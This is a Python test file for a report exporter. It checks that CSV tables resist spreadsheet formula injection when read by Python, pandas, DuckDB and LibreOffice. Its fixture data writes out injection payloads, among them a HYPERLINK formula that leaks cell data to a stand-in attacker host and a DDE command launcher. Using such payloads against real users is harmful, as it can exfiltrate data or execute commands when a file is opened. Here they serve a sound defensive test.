"""Other programs read the same rows and values, and run nothing."""

import csv
import os
import re
import shutil
import subprocess

import duckdb
import pandas as pd
import pytest

from argyle_nb.frames.ocr import ocr_frame
from argyle_nb.frames.uploads import flatten
from argyle_nb.report import export_report
from tests.support.records import form, record, scored, supporting, unscored

TEXTS = ("uploads.csv", "signals.csv", "ocr_fields.csv", "levels.csv", "coverage.csv")
OPENED = ("uploads.csv", "signals.csv", "ocr_fields.csv")

LIBREOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
    "=cmd|'/c calc'!A1",
    '","=1+1',
    "x;=1+1",
    "x\t=1+1",
    "x\n=1+1;",
)
# How spreadsheets of other countries and settings separate: ; and tab.
SEPARATORS = (44, 59, 9)


def records():
    for number, formula in enumerate(FORMULAS):
        data = [supporting("x", formula, formula)]
        found = {
            "identifier": formula,
            "display_name": formula,
            "signal_count": 1,
            "page_number": 1,
            "supporting_data": data,
        }
        yield record(
            number,
            file_name=formula,
            metadata={
                "ocr_data": {"employee": {"name": formula}, formula: "x"},
                "ocr_authenticity_score": number,
                "ocr_authenticity": form(signals=[found]),
            },
        )
    yield scored(50, 12, document_type="W-2")
    yield unscored(51, "idle", "idle", "idle")


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    uploads, signals = flatten(list(records()))
    return export_report(
        uploads,
        tmp_path_factory.mktemp("report") / "=HYPERLINK(1)",
        signals=signals,
        ocr=ocr_frame(list(records())),
        pii="include",
    )


def by_python(path):
    with path.open(newline="", encoding="utf-8-sig") as file:
        return list(csv.reader(file))


def tables(report):
    return [report.files[name] for name in report.rows]


def test_python_reads_as_many_rows_and_no_cell_that_would_run(report):
    for path in tables(report):
        header, *rows = by_python(path)
        assert len(rows) == report.rows[path.name]
        for cell in [*header, *(cell for row in rows for cell in row)]:
            number = cell.removeprefix("-").replace(".", "").replace("e-", "").isdecimal()
            assert number or not cell.startswith(("=", "+", "-", "@", "\t", " ", "\uff1d"))


def test_pandas_reads_the_same(report):
    for path in tables(report):
        read = pd.read_csv(path, dtype=str, keep_default_na=False)
        assert [list(read), *read.to_numpy().tolist()] == by_python(path)


def test_duckdb_reads_the_same(report):
    for path in tables(report):
        shown = duckdb.read_csv(str(path), header=True, all_varchar=True, delimiter=",")
        rows = [[cell or "" for cell in row] for row in shown.fetchall()]
        assert [list(shown.columns), *rows] == by_python(path)


def convert(paths, folder, kind, *options):
    command = [LIBREOFFICE, "--headless", f"-env:UserInstallation=file://{folder}/profile"]
    command += [*options, "--convert-to", kind, "--outdir", str(folder), *map(str, paths)]
    subprocess.run(command, check=True, capture_output=True, timeout=600)


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    """A folder of LibreOffice's own."""
    if LIBREOFFICE is None:
        pytest.skip("no LibreOffice here: apt-get install --no-install-recommends libreoffice-calc")
    return tmp_path_factory.mktemp("office")


@pytest.fixture(scope="module")
def saved_again(report, office):
    """Each table, read as the import dialog lets one choose: every column as text."""
    paths = [report.files[name] for name in TEXTS]
    widest = max(len(by_python(path)[0]) for path in paths)
    columns = "/".join(f"{n}/2" for n in range(1, widest + 1))
    convert(
        paths,
        office,
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false",
        f"--infilter=CSV:44,34,76,1,{columns}",
    )
    return office


@pytest.fixture(scope="module")
def opened(report, office):
    """Tables as a double click opens them."""
    convert([report.files[name] for name in OPENED], office, "fods")
    return office


@pytest.mark.parametrize("name", TEXTS)
def test_libreoffice_reads_the_same_texts(name, report, saved_again):
    read = by_python(saved_again / name)
    # A line break in a cell is one character to a spreadsheet.
    ours = by_python(report.files[name])
    ours = [[cell.replace("\r\n", "\n") for cell in row] for row in ours]
    assert read == ours


@pytest.mark.parametrize("name", OPENED)
def test_libreoffice_runs_no_formula(name, opened):
    """No cell is a formula, and no link was made."""
    text = (opened / name).with_suffix(".fods").read_text(encoding="utf-8")
    assert "HYPERLINK" in text
    assert "table:formula" not in text
    assert 'xlink:href="http://evil' not in text


def formulas_in(path, folder, separator):
    """Open a file with formulas allowed, and give those that are there."""
    options = f"--infilter=CSV:{separator},34,76,1,,0,false,true,false,false,false,-1,true"
    convert([path], folder, "fods", options)
    opened = (folder / path.name).with_suffix(".fods").read_text(encoding="utf-8")
    return re.findall('table:formula="[^"]*"', opened)


@pytest.mark.parametrize("separator", SEPARATORS)
def test_libreoffice_runs_no_formula_whatever_separates_cells_there(separator, report, office):
    for name in ("uploads.csv", "signals.csv", "ocr_fields.csv"):
        assert formulas_in(report.files[name], office, separator) == []


@pytest.mark.parametrize("separator", SEPARATORS)
def test_libreoffice_would_have_run_what_pandas_writes(separator, office):
    """What the test above looks for is really there where nothing is made harmless."""
    careless = office / "careless.csv"
    pd.DataFrame({"file_name": FORMULAS, "beside": "x"}).to_csv(careless, index=False)
    assert formulas_in(careless, office, separator)


def test_a_machine_that_must_have_it_has_it():
    assert LIBREOFFICE or not os.environ.get("CI"), "install libreoffice-calc before the tests"
